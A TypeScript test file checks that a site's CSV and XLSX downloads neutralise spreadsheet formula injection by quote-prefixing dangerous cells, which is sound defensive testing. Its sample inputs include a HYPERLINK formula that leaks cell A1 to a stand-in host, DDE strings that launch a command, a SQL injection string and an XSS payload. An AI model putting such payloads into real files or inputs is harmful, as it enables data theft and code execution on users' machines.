// Downloads neutralise spreadsheet formula injection: the site's CSV helper and the report pack's
// XLSX writer. A text cell that a spreadsheet would run as a formula (it starts with = + - @, tab
// or carriage return) comes out starting with a single quote; numbers stay numbers; no cell of the
// workbook is a formula. Checked by parsing the output back, not by reading the helper's code.
import { dsvFormat } from "d3-dsv";
import ExcelJS from "exceljs";
import { describe, expect, it } from "vitest";
import { toCsv } from "../../src/components/csv.ts";
import { renderXlsx } from "../../reports/xlsx.ts";
import type { Paket } from "../../reports/pack.ts";

const HOSTILE = [
  '=HYPERLINK("http://contoh.invalid/?q="&A1,"klik")',
  "=cmd|' /C calc'!A0",
  "+SUM(1+1)",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(A1:A9)",
  "\t=1+1",
  "\r=1+1",
  "'; DROP TABLE raw.skm; --",
  "<img src=x onerror=alert(1)>",
];
const DANGEROUS_START = /^[=+\-@\t\r]/;

describe("CSV downloads", () => {
  const rows = HOSTILE.map((nama, i) => ({ nama, nilai: i - 3, teks_angka: "-5" }));
  const csv = toCsv(rows, [{ key: "nama" }, { key: "nilai" }, { key: "teks_angka" }], {
    judul: "=HYPERLINK(\"http://contoh.invalid\")",
    definisi: "+1",
    rumus: "-",
    satuan: "@",
    sumber: "uji",
    periode: "2025",
    tanggal_pembaruan: "2026-01-15",
  });

  it("no text cell starts a formula; each hostile text survives after the quote", () => {
    const lines = csv.split("\r\n");
    const body = lines.slice(lines.indexOf("") + 1).join("\n");
    const parsed = dsvFormat(",").parse(body);
    expect(parsed).toHaveLength(HOSTILE.length);
    parsed.forEach((r, i) => {
      expect(r.nama, HOSTILE[i]).not.toMatch(DANGEROUS_START);
      // a quote was added exactly when the text would have run, and nothing else changed
      expect(r.nama).toBe(DANGEROUS_START.test(HOSTILE[i]) ? `'${HOSTILE[i]}` : HOSTILE[i]);
      // numbers are numbers, negative ones included
      expect(r.nilai).toBe(String(i - 3));
      // text that looks like a negative number is text, and neutralised like any text
      expect(r.teks_angka).toBe("'-5");
    });
  });

  it("metadata lines are neutralised too", () => {
    const meta = csv.split("\r\n").filter((l) => l.startsWith("# "));
    for (const l of meta) expect(l.slice(l.indexOf(": ") + 2), l).not.toMatch(DANGEROUS_START);
    expect(meta).toContain(`# judul: '=HYPERLINK("http://contoh.invalid")`);
  });
});

describe("XLSX downloads (report packs)", () => {
  it("text cells are neutralised, numbers stay numbers, no cell is a formula", async () => {
    const pack = {
      jenis: "kota",
      periode: "2025",
      kode: "KOTA",
      judul: "=HYPERLINK(\"http://contoh.invalid\")",
      subjudul: "uji",
      namaFile: "uji",
      bagian: [
        {
          judul: "Uji",
          tabel: [
            {
              id: "uji",
              judul: "Tabel uji",
              kolom: [
                { key: "nama", label: "Nama", tipe: "teks" },
                { key: "nilai", label: "Nilai", tipe: "angka" },
                { key: "status", label: "Status", tipe: "status" },
              ],
              baris: HOSTILE.map((nama, i) => ({ nama, nilai: i - 3, status: HOSTILE[(i + 1) % HOSTILE.length] })),
            },
          ],
        },
      ],
      penandatangan: { tanggal: "2026-01-15" },
      final: false,
      meta: { diperbarui: "2026-01-15", demo: false, sumberOpsional: [], muatan: [] },
    } as unknown as Paket;
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load((await renderXlsx(pack)) as unknown as ArrayBuffer);
    const data = wb.getWorksheet("uji")!;
    const names: unknown[] = [];
    const numbers: unknown[] = [];
    let formulas = 0;
    const dangerous: string[] = [];
    wb.eachSheet((ws) =>
      ws.eachRow((row) =>
        row.eachCell((cell) => {
          if (cell.type === ExcelJS.ValueType.Formula) formulas++;
          if (typeof cell.value === "string" && DANGEROUS_START.test(cell.value)) dangerous.push(`${ws.name}!${cell.address}: ${cell.value}`);
        }),
      ),
    );
    data.eachRow((row, n) => {
      if (n === 1) return;
      names.push(row.getCell(1).value);
      numbers.push(row.getCell(2).value);
    });
    expect(formulas).toBe(0);
    expect(dangerous).toEqual([]);
    // (XML stores a carriage return as a line feed: compare with that in mind)
    expect(names).toEqual(HOSTILE.map((h) => (DANGEROUS_START.test(h) ? `'${h}` : h).replace(/\r/g, "\n")));
    expect(numbers).toEqual(HOSTILE.map((_, i) => i - 3));
  });
});
